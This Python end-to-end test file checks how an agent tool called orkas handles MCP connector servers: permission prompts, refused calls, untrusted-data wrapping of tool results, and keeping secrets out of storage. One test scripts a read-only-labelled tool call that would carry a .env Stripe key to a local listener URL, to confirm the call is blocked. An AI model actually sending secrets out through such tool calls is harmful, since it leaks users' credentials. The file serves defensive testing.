"""Connectors end to end: a real MCP server (tests/fixtures/mcp_server.py, the official SDK) added with
`orkas mcp add`, then used by `orkas run` and `orkas serve` against the wire fake — listed, called, asked
first when it changes things (once / always per server and tool), bad calls refused with the reason before
anything runs, results marked as outside text, secrets nowhere under the data folder."""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx

from tests.e2e.test_cli import anthropic_env, orkas
from tests.fakes import anthropic as a_wire
from tests.fakes.server import FakeServer
from tests.ui.conftest import start_app

SERVER = Path(__file__).parents[1] / "fixtures" / "mcp_server.py"
SECRET = "tok-e2e-5a4b3c2d1e"


def results(server: FakeServer, index: int) -> list[dict[str, Any]]:
    """The tool results the model was sent in request `index`."""
    return list(server.requests[index].json["messages"][-1]["content"])


def text_of(result: dict[str, Any]) -> str:
    content = result["content"]
    return content if isinstance(content, str) else " ".join(c.get("text", "") for c in content)


def env_for(server: FakeServer, tmp_path: Path) -> dict[str, str]:
    (tmp_path / "home").mkdir(exist_ok=True)
    (tmp_path / "ws").mkdir(exist_ok=True)
    env = anthropic_env(server)
    env.update(ORKAS_HOME=str(tmp_path / "data"), HOME=str(tmp_path / "home"))
    return env


def add_server(env: dict[str, str], cwd: Path, *extra: str, folders: tuple[Path, ...] = ()) -> None:
    """The test server, as a person adds it: confined (the default), seeing the `folders` named for it."""
    command = " ".join([sys.executable, str(SERVER), *extra])
    named = [arg for folder in folders for arg in ("--folder", str(folder))]
    added = orkas("mcp", "add", "test", "--command", command, "--env", f"TOKEN={SECRET}", *named, "--yes",
                  env=env, cwd=cwd)  # fmt: skip
    assert added.returncode == 0, added.stderr


def out_folder(tmp_path: Path) -> Path:
    """A folder of the person's the server writes into (its marker, the environment it saw): named for it."""
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    return out


def test_a_run_lists_and_calls_a_local_server(anthropic_server: FakeServer, tmp_path: Path) -> None:
    env = env_for(anthropic_server, tmp_path)
    marker, seen = out_folder(tmp_path) / "note.txt", out_folder(tmp_path) / "env.json"
    add_server(env, tmp_path, "--marker", str(marker), "--env-file", str(seen), folders=(out_folder(tmp_path),))
    call = a_wire.tool_use
    anthropic_server.script(
        a_wire.message(call("mcp_list_tools", {}, id="t1")),
        a_wire.message(call("mcp_list_tools", {"server": "test"}, id="t2")),
        a_wire.message(
            call("mcp_call", {"server": "test", "tool": "echo", "arguments": {"text": "hi"}}, id="t3"),
            call("mcp_call", {"server": "test", "tool": "write_note", "arguments": {"text": "x"}}, id="t4"),
            call("mcp_call", {"server": "test", "tool": "add", "arguments": {"a": "one"}}, id="t5"),
            call("mcp_call", {"server": "nope", "tool": "echo", "arguments": {}}, id="t6"),
            call("mcp_call", {"server": "test", "tool": "nope", "arguments": {}}, id="t7"),
            call("mcp_call", {"server": "test", "tool": "look", "arguments": {}}, id="t8"),
            call("mcp_call", {"server": "test", "tool": "shout", "arguments": {}}, id="t9"),
        ),
        a_wire.reply_text("Done."),
    )
    result = orkas("run", "use the server", "--workspace", str(tmp_path / "ws"), "--json", env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    tools = {t["name"] for t in anthropic_server.requests[0].json["tools"]}
    assert {"mcp_list_tools", "mcp_call"} <= tools
    everything = text_of(results(anthropic_server, 1)[0])
    assert "## test (connected) — 10 tools" in everything and "- echo [read-only]: Say the text back." in everything
    schemas = text_of(results(anthropic_server, 2)[0])
    assert '"required":["a","b"]' in schemas and "<untrusted_data" in schemas
    echo, note, bad, server, tool, look, shout = results(anthropic_server, 3)
    assert "echo: hi" in text_of(echo) and not echo.get("is_error")
    assert note["is_error"] and "did not allow test.write_note" in text_of(note) and not marker.exists()
    assert bad["is_error"] and "do not match its input schema" in text_of(bad) and "'b' is a required" in text_of(bad)
    assert server["is_error"] and "no server 'nope'; the servers are: test" in text_of(server)
    assert tool["is_error"] and "no tool of test 'nope'" in text_of(tool) and "write_note" in text_of(tool)
    assert any(c.get("type") == "image" for c in look["content"])
    assert text_of(shout).count("</untrusted_data>") == 1 and "untrusted-data-quoted" in text_of(shout)
    started_with = json.loads(seen.read_text())
    assert started_with["TOKEN"] == SECRET and "ANTHROPIC_API_KEY" not in started_with  # no key of ours leaks
    for root, _dirs, files in os.walk(tmp_path / "data"):
        for name in files:
            assert SECRET.encode() not in (Path(root) / name).read_bytes(), name
    listed = json.loads(orkas("mcp", "list", "--json", env=env, cwd=tmp_path).stdout)
    assert listed[0]["status"] == "disconnected" and listed[0]["tools"] == 10  # the run ended: its server too


def test_a_tool_that_only_says_read_only_never_sends_data_out_unasked(
    anthropic_server: FakeServer, tmp_path: Path
) -> None:
    """The attack: a server's tool annotated readOnlyHint (but not openWorldHint: false) took a secret to a listener
    in a URL. Every mode asks now, `auto` included; with nobody to answer, nothing leaves."""
    from tests.e2e.attack_kit import Listener

    listener = Listener()
    env = env_for(anthropic_server, tmp_path)
    add_server(env, tmp_path)
    (tmp_path / "ws" / ".env").write_text("STRIPE_KEY=sk_live_exfil_me\n")
    call = {"server": "test", "tool": "lookup", "arguments": {"url": listener.url, "query": "sk_live_exfil_me"}}
    try:
        for mode in ("ask", "auto", "plan"):
            anthropic_server.script(
                a_wire.message(a_wire.tool_use("mcp_call", call, id=f"t-{mode}")), a_wire.reply_text("ok")
            )
            ran = orkas("run", "look it up", "--mode", mode, "--json", env=env, cwd=tmp_path / "ws")
            assert ran.returncode == 0, ran.stderr
            refused = results(anthropic_server, -1)[0]  # in auto too: a change would have run there, this asks
            assert refused["is_error"] and "did not allow test.lookup" in text_of(refused), mode
        assert listener.received == []
    finally:
        listener.close()


def test_without_connectors_the_tools_are_not_offered(anthropic_server: FakeServer, tmp_path: Path) -> None:
    env = env_for(anthropic_server, tmp_path)
    anthropic_server.script(a_wire.reply_text("Hi."))
    assert orkas("run", "hello", "--json", env=env, cwd=tmp_path / "ws").returncode == 0
    assert not {"mcp_call", "mcp_list_tools"} & {t["name"] for t in anthropic_server.requests[0].json["tools"]}


def test_a_crash_mid_call_is_an_error_result_and_shows_in_mcp_list(
    anthropic_server: FakeServer, tmp_path: Path
) -> None:
    env = env_for(anthropic_server, tmp_path)
    add_server(env, tmp_path)
    anthropic_server.script(
        a_wire.message(a_wire.tool_use("mcp_call", {"server": "test", "tool": "crash", "arguments": {}}, id="t1")),
        a_wire.message(a_wire.tool_use("mcp_call", {"server": "test", "tool": "echo", "arguments": {"text": "a"}})),
        a_wire.reply_text("It failed."),
    )
    assert orkas("run", "crash it", "--json", env=env, cwd=tmp_path / "ws").returncode == 0
    crashed = results(anthropic_server, 1)[0]
    assert crashed["is_error"] and "process exited during the call" in text_of(crashed)
    waiting = results(anthropic_server, 2)[0]
    assert waiting["is_error"] and "next try is in" in text_of(waiting)
    listed = orkas("mcp", "list", env=env, cwd=tmp_path).stdout
    assert "degraded" in listed and "last error:" in listed and "next try in" in listed


def test_the_app_asks_before_a_tool_that_changes_things(anthropic_server: FakeServer, tmp_path: Path) -> None:
    from websockets.sync.client import connect

    marker = out_folder(tmp_path) / "note.txt"
    env = env_for(anthropic_server, tmp_path)
    add_server(env, tmp_path, "--marker", str(marker), folders=(out_folder(tmp_path),))
    app = start_app(
        tmp_path / "data", HOME=str(tmp_path / "home"), ANTHROPIC_API_KEY="k", ANTHROPIC_BASE_URL=anthropic_server.url
    )
    headers = {"X-Orkas-Token": app.token}

    def note(text: str, id: str) -> dict[str, Any]:
        return a_wire.message(
            a_wire.tool_use("mcp_call", {"server": "test", "tool": "write_note", "arguments": {"text": text}}, id=id)
        )

    try:
        anthropic_server.script(
            note("first", "t1"), a_wire.reply_text("ok"),
            note("second", "t2"), a_wire.reply_text("ok"),
            a_wire.message(a_wire.tool_use("mcp_call", {"server": "test", "tool": "add", "arguments": {"a": 1, "b": 2}},
                                           id="t3")),
            a_wire.reply_text("ok"),
        )  # fmt: skip
        chat = httpx.post(f"{app.base}/api/conversations", json={}, headers=headers).json()["id"]
        socket_url = app.base.replace("http://", "ws://") + f"/api/events?conversation={chat}&token={app.token}"
        asked: list[dict[str, Any]] = []

        def send(text: str, decision: str | None, until: Callable[[], bool]) -> None:
            sent = httpx.post(f"{app.base}/api/conversations/{chat}/messages", json={"text": text}, headers=headers)
            assert sent.status_code == 202
            with connect(socket_url) as socket:
                deadline = time.monotonic() + 30
                while time.monotonic() < deadline:
                    event = json.loads(socket.recv(timeout=30))
                    if event["type"] == "permission_request" and event["id"] not in {a["id"] for a in asked}:
                        asked.append(event)
                        assert decision is not None, f"asked unexpectedly: {event}"
                        body = {"question_id": event["id"], "decision": decision}
                        assert httpx.post(f"{app.base}/api/conversations/{chat}/answers", json=body,
                                          headers=headers).status_code == 200  # fmt: skip
                    if event["type"] in ("done", "turn_end") and until():
                        return
            raise AssertionError("the turn did not end")

        send("write a note", "always", lambda: marker.exists())
        assert asked[0]["tool"] == "mcp_call" and "test → write_note" in asked[0]["preview"]
        assert marker.read_text() == "first"
        send("again", None, lambda: marker.read_text() == "second")  # always: that server and tool
        send("add", "deny", lambda: len(anthropic_server.requests) >= 6)  # another tool: asked again
        assert len(asked) == 2 and "test → add" in asked[1]["preview"]
        denied = text_of(results(anthropic_server, 5)[0])
        assert "did not allow test.add" in denied
    finally:
        app.stop()
    import subprocess

    deadline = time.monotonic() + 10  # the app's local servers end with it
    while subprocess.run(["pgrep", "-f", str(marker)], capture_output=True).returncode == 0:
        assert time.monotonic() < deadline, "the MCP server outlived the app"
        time.sleep(0.1)


def test_an_imported_claude_desktop_server_is_usable(tmp_path: Path) -> None:
    from tests.conftest import subprocess_env

    (tmp_path / "home").mkdir()
    env = subprocess_env(ORKAS_HOME=str(tmp_path / "data"), HOME=str(tmp_path / "home"))
    config = tmp_path / "claude_desktop_config.json"
    servers = {"local": {"command": sys.executable, "args": [str(SERVER)], "env": {"TOKEN": SECRET}},
               "broken": {"args": ["x"]}}  # fmt: skip
    config.write_text(json.dumps({"mcpServers": servers}))
    refused = orkas("mcp", "import", str(config), env=env, cwd=tmp_path)  # no terminal, no --yes: not added
    assert "confirm in a terminal, or pass --yes" in refused.stderr and "neither a command nor a url" in refused.stderr
    imported = orkas("mcp", "import", str(config), "--yes", env=env, cwd=tmp_path)
    assert "added custom-local (local)" in imported.stdout, imported.stderr
    tools = orkas("mcp", "tools", "local", env=env, cwd=tmp_path)
    assert tools.returncode == 0 and "echo [read-only, stays here]  Say the text back." in tools.stdout, tools.stderr
    unknown = orkas("mcp", "tools", "nope", env=env, cwd=tmp_path)
    assert unknown.returncode == 2 and "no server 'nope'; the servers are: local" in unknown.stderr
    for root, _dirs, files in os.walk(tmp_path / "data"):
        for name in files:
            assert SECRET.encode() not in (Path(root) / name).read_bytes(), name
